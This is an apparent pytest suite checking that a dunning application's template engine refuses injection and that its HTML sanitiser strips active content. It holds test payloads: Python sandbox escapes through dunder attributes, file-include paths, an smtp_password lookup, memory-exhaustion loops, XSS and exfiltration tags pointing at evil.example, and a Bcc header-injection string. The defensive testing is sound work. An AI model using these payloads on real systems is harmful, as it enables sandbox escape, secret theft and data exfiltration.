"""What a template must not do (RELIABILITY P15): read further, act, run forever, fill the memory."""

import time
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from dunning.documents.view import message_view
from dunning.messages.composing import header_text
from dunning.messages.engine import (
    LOOP_ITERATIONS,
    SOURCE_LENGTH,
    TemplateRefused,
    rendered,
)
from dunning.messages.fields import merge_fields
from dunning.messages.samples import sample_contents
from dunning.messages.sanitise import safe_html
from dunning.messages.shipped import check_template
from dunning.rules.content import MessageTemplate

SECRET = "secret-of-the-house"
FIFTY_MEGABYTES = 50_000_000


@pytest.fixture
def fields() -> dict[str, Any]:
    view = message_view(sample_contents()[0])
    return merge_fields(view, first_due="31 juillet 2026", notice_number="MD-1")


ATTACKS = {
    "climb from a value": "{{ customer.tenant.smtp_password }}",
    "climb by dunder": "{{ total.__class__.__mro__[1].__subclasses__ }}",
    "climb from a loop": "{% for i in items %}{{ i.__class__.__init__.__globals__ }}{% endfor %}",
    "call a method": "{{ customer.delete }}{{ items[0].save }}",
    "read a file": "{% include '/etc/hostname' %}",
    "render a file": "{% render '../../otc/settings.py' %}",
    "dump the context": "{% debug %}",
    "set and read a global": "{% assign settings = django.conf.settings %}{{ settings }}",
    "endless loop": "{% for a in (1..100000000) %}{% endfor %}",
    "nested loops": "{% for a in (1..9000) %}{% for b in (1..9000) %}{% endfor %}{% endfor %}",
    "loops in a row": "{% for a in (1..9000) %}{% endfor %}" * 1_000,
    "a giant text": "{% assign a = 'x' %}" + "{% capture a %}{{ a }}{{ a }}{% endcapture %}" * 40,
    "a giant output": "{% for a in (1..9999) %}" + "x" * 1_000 + "{% endfor %}",
    "multiply by filters": "{{ 'xxxxxxxxxx'" + " | replace: 'x', 'xxxxxxxxxx'" * 12 + " }}",
}


@pytest.mark.parametrize("source", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_is_refused_in_a_second_and_fifty_megabytes(
    source: str,
    fields: dict[str, Any],
) -> None:
    tracemalloc.start()
    begin = time.perf_counter()
    try:
        with pytest.raises(TemplateRefused):
            rendered(source, fields)
        seconds = time.perf_counter() - begin
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # Tracing memory slows Python several times; the limit itself is one second.
    assert seconds < 5
    assert peak < FIFTY_MEGABYTES


def test_a_slow_body_is_stopped_by_the_clock(fields: dict[str, Any]) -> None:
    source = "{% for a in (1..10000) %}" + "{% if 1 == 2 %}{% endif %}" * 1_500 + "{% endfor %}"
    begin = time.perf_counter()
    with pytest.raises(TemplateRefused, match="more than 1 s"):
        rendered(source, fields)
    assert time.perf_counter() - begin < 3


def test_deep_nesting_is_refused(fields: dict[str, Any]) -> None:
    with pytest.raises(TemplateRefused):
        rendered("{% if true %}" * 200 + "{% endif %}" * 200, fields)


def test_a_source_longer_than_a_message_is_refused(fields: dict[str, Any]) -> None:
    with pytest.raises(TemplateRefused, match=str(SOURCE_LENGTH)):
        rendered("x" * (SOURCE_LENGTH + 1), fields)


def test_as_many_rounds_as_allowed_pass(fields: dict[str, Any]) -> None:
    assert rendered(f"{{% for a in (1..{LOOP_ITERATIONS}) %}}{{% endfor %}}", fields) == ""


def test_the_context_holds_texts_and_nothing_to_climb_from(fields: dict[str, Any]) -> None:
    def plain(value: object) -> bool:
        if isinstance(value, dict):
            return all(isinstance(key, str) and plain(item) for key, item in value.items())
        if isinstance(value, list):
            return all(plain(item) for item in value)
        return type(value) in {str, bool}

    assert plain(fields)


def test_values_are_escaped_wherever_they_are_placed(fields: dict[str, Any]) -> None:
    fields["customer"]["name"] = '<script>alert("x")</script>'
    assert "<script>" not in rendered("<p>{{ customer.name }}</p>", fields)


SCRIPTS = [
    "<script>fetch('https://evil.example')</script>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>1</script>'>x</a>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p onclick='alert(1)'>x</p>",
    "<style>@import 'https://evil.example';</style>",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=iban></form>",
    "<link rel='stylesheet' href='https://evil.example'>",
    "<svg><image href='https://evil.example'/></svg>",
    "<base href='https://evil.example'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<video src='https://evil.example'></video>",
    "<table background='https://evil.example'><tr><td>x</td></tr></table>",
]


@pytest.mark.parametrize("html", SCRIPTS)
def test_written_html_runs_nothing_and_fetches_nothing(html: str) -> None:
    cleaned = safe_html(html)
    assert "evil.example" not in cleaned
    for word in ("script", "onerror", "onclick", "style", "src", "javascript:", "data:"):
        assert word not in cleaned.lower()


@pytest.mark.parametrize(
    "end", ["\r\nBcc: all@evil.example", "\n", "\r", "\u2028x", "\x00x", "\x85x"]
)
def test_a_subject_is_one_line_whatever_a_name_holds(end: str, fields: dict[str, Any]) -> None:
    fields["customer"]["name"] = f"Bâti-Loire{end}"
    subject = header_text("Relance {{ customer.name }}", fields)
    assert len(subject.splitlines()) == 1


@pytest.mark.parametrize(
    ("body", "named"),
    [
        ("{{ customer.iban }}", "customer.iban"),
        ("{% if 1 == 2 %}{{ customer.secret }}{% endif %}", "customer.secret"),
        ("{% for item in items %}{{ item.cost }}{% endfor %}", "cost"),
        ("{{ total | append: 'x' }}", "append"),
        ("{% if 1 == 2 %}{{ total | times: 9 }}{% endif %}", "times"),
        ("<p>{{ total </p>", "line"),
        ("{% include 'x' %}", "include"),
    ],
)
def test_a_text_that_would_fail_on_the_day_is_refused_at_save(body: str, named: str) -> None:
    template = MessageTemplate(subject="{{ total }}", preview="", body=body)
    with pytest.raises(TemplateRefused, match=f"(?i){named}"):
        check_template(template)


def test_no_shipped_or_tenant_text_reaches_a_file(fields: dict[str, Any], tmp_path: Path) -> None:
    secret = tmp_path / "secret.liquid"
    secret.write_text(SECRET, encoding="utf-8")
    for source in (f"{{% include '{secret}' %}}", f"{{% render '{secret}' %}}"):
        with pytest.raises(TemplateRefused) as refused:
            rendered(source, fields)
        assert SECRET not in str(refused.value)
